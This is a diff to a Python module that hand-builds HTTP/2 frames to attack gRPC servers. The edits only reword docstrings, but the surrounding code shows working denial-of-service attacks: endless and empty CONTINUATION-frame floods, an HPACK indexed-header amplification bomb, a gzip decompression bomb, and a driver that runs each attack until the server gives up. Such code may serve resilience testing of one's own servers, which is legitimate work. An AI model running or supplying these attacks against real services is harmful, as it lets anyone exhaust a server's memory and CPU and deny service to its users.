@@ -1,4 +1,4 @@
-"""HTTP/2 frames by hand (RFC 9113, RFC 7541), and what can be done to a gRPC port with them."""
+"""HTTP/2 frames written byte by byte (RFC 9113, RFC 7541), and attacks on a gRPC port made of them."""
 import contextlib
 import functools
 import socket
@@ -15,7 +15,7 @@ END_HEADERS = 0x4
 
 
 def tls_context(protocol, identity=None):
-    """Of a client that trusts everybody and asks for this protocol (ALPN)."""
+    """A client's context that accepts every certificate and offers this protocol by ALPN."""
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.set_alpn_protocols([protocol])
@@ -39,12 +39,12 @@ def _text(value):
 
 
 def field(name, value):
-    """Without an entry in a table."""
+    """A literal header field without indexing."""
     return b"\x00" + _text(name) + _text(value)
 
 
 def indexed(name, value):
-    """With an entry in the table of the connection: 62, in one byte, for as long as it is the last."""
+    """A literal header field with indexing: it gets index 62, one byte, until another field is indexed."""
     return b"\x40" + _text(name) + _text(value)
 
 
@@ -76,10 +76,10 @@ def connect(address):
 
 
 class Connection:
-    """To "address:port" or "unix:path". It has said what every client says first."""
+    """To "address:port" or "unix:path", with the client's preface and SETTINGS already sent."""
 
     def __init__(self, address, tls=None, wait=True, path=STATUS_CALL, extra=b""):
-        """path, extra: of the calls that attacks make."""
+        """path, extra: path and further headers of the calls that attacks make."""
         self._path, self._extra = path, extra
         self.socket = connect(address)
         if tls:
@@ -106,7 +106,7 @@ class Connection:
         return request(token, self._path, self._extra + extra)
 
     def frames(self, within=PATIENCE):
-        """(type, flags, stream, payload), until the connection ends or nothing comes."""
+        """(type, flags, stream, payload) of each frame, until the connection ends or nothing more is received."""
         self.socket.settimeout(within)
         with contextlib.suppress(OSError):
             while data := self.socket.recv(1 << 16):
@@ -119,7 +119,7 @@ class Connection:
                     yield head[3], head[4], int.from_bytes(head[5:9], "big"), head[9:]
 
     def is_over(self, within=PATIENCE):
-        """Whether the other side has ended it, or does in that time."""
+        """Whether the server has closed the connection, or closes it within that time."""
         self.socket.settimeout(within)
         try:
             while self.socket.recv(1 << 16):
@@ -134,14 +134,14 @@ class Connection:
         self.socket.close()
 
 
-# ---- attacks: each takes a fresh connection, and goes on until it is over, or enough was sent.
+# ---- attacks: each uses a new connection, and runs until the server closes it or everything was sent.
 
 # The beginning of a field whose value has 2 GiB.
 ENDLESS_FIELD = b"\x00\x01x\x7f\x80\xff\xff\xff\x07"
 
 
 def endless_continuation(connection, token, megabytes=192, frame_bytes=16_000):
-    """One field, and no end of it."""
+    """One header field that never ends."""
     connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
     connection.send(frame(HEADERS, 0, 3, connection.request(token) + ENDLESS_FIELD))
     piece = frame(CONTINUATION, 0, 3, b"a" * frame_bytes)
@@ -150,7 +150,7 @@ def endless_continuation(connection, token, megabytes=192, frame_bytes=16_000):
 
 
 def empty_continuation(connection, token, count=2_000_000):
-    """A header that never ends, of frames that say nothing."""
+    """A header block that never ends, in empty CONTINUATION frames."""
     connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
     connection.send(frame(HEADERS, 0, 3, connection.request(token)))
     piece = frame(CONTINUATION, 0, 3) * 1000
@@ -159,12 +159,12 @@ def empty_continuation(connection, token, count=2_000_000):
 
 
 def small_continuation(connection, token):
-    """The same in small pieces: with each, a parser may begin again."""
+    """The endless field in small pieces: a parser may start over with each."""
     endless_continuation(connection, token, 2, 1024)
 
 
 def header_bomb(connection, token, requests=2000):
-    """Each request names a field of 3,000 bytes twice, in one byte each."""
+    """Each request refers twice to an indexed field of 3,000 bytes, with one byte each."""
     connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token, extra=indexed(b"x", b"a" * 3000))))
     block = connection.request(token, extra=LAST_INDEXED * 2)
     for first in range(1, requests, 50):
@@ -185,13 +185,13 @@ def _compressed_zeros(megabytes):
 
 
 def compressed_bomb(connection, token, megabytes=256):
-    """One message of that size, all zeros, in a thousandth of it."""
+    """One message of that many zero bytes, compressed to a thousandth."""
     body = _compressed_zeros(megabytes)
     message = b"\x01" + len(body).to_bytes(4, "big") + body
     connection.send(frame(HEADERS, END_HEADERS, 1, connection.request(token, extra=field(b"grpc-encoding", b"gzip"))))
     for at in range(0, min(len(message), 65_000), 16_000):
         connection.send(frame(DATA, 0, 1, message[at:min(at + 16_000, 65_000)]))
-    # The rest needs the server's window, which grows as it reads.
+    # The rest has to wait for window updates, which the server sends as it reads.
     time.sleep(0.2)
     for at in range(65_000, len(message), 16_000):
         connection.send(frame(DATA, 0, 1, message[at:at + 16_000]))
@@ -223,7 +223,7 @@ ATTACKS = [endless_continuation, small_continuation, header_bomb, rapid_reset, c
 
 
 def attack(address, which, token=None, tls=None, seconds=float("inf"), path=STATUS_CALL, extra=b""):
-    """How long it took until the other side ended the connection, everything was sent, or the time was over."""
+    """Seconds until the server closed the connection, everything was sent, or the time limit was reached."""
     began = time.monotonic()
     with contextlib.suppress(OSError), Connection(address, tls, path=path, extra=extra) as connection:
         connection.socket.settimeout(min(3, seconds))
